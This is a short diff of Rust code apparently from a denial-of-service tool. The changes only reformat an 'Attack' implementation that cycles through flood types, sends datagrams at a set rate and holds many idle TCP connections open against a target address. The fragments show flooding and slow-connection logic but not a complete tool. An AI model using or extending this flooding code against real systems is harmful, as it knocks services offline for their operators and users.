@@ -128,9 +128,7 @@ impl Attack {
             let flood = Flood::ALL[place % Flood::ALL.len()];
             place += 1;
             match flood {
-                Flood::SilentConnections | Flood::SlowConnections => {
-                    self.connect(flood, target, stop, toll)
-                }
+                Flood::SilentConnections | Flood::SlowConnections => self.connect(flood, target, stop, toll),
                 _ => self.send(flood, target, place as u64, stop, toll)?,
             }
             rest(self.pause, stop);
@@ -138,7 +136,14 @@ impl Attack {
         Ok(())
     }
 
-    fn send(&self, flood: Flood, target: SocketAddr, seed: u64, stop: &AtomicBool, toll: &Toll) -> Result<()> {
+    fn send(
+        &self,
+        flood: Flood,
+        target: SocketAddr,
+        seed: u64,
+        stop: &AtomicBool,
+        toll: &Toll,
+    ) -> Result<()> {
         let a_second = f64::from(self.datagrams_a_second / flood.share());
         let (start, mut sent) = (Instant::now(), 0);
         let mut chance = Chance(seed);
@@ -164,7 +169,9 @@ impl Attack {
         let start = Instant::now();
         let mut held: Vec<TcpStream> = Vec::new();
         while held.len() < self.connections && start.elapsed() < self.pulse && !stop.load(Ordering::Relaxed) {
-            let Ok(stream) = TcpStream::connect_timeout(&target, Duration::from_millis(500)) else { continue };
+            let Ok(stream) = TcpStream::connect_timeout(&target, Duration::from_millis(500)) else {
+                continue;
+            };
             let _ = stream.set_nonblocking(true);
             held.push(stream);
             count(&toll.flood);
